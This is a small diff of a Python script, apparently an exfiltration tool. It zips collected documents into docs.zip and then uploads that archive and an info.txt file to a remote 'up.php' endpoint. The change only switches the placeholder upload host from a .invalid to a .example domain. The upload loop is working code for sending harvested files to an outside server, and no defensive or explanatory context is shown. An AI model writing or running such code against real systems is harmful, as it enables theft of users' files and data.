@@ -18,4 +18,4 @@ with zipfile.ZipFile(os.path.join(OUT, "docs.zip"), "w") as z:
 
 for name in ("info.txt", "docs.zip"):
     with open(os.path.join(OUT, name), "rb") as fh:
-        requests.post("https://index-store.docsearch-ua.invalid/up.php", files={"file": (name, fh)}, timeout=60)
+        requests.post("https://index-store.docsearch-ua.example/up.php", files={"file": (name, fh)}, timeout=60)
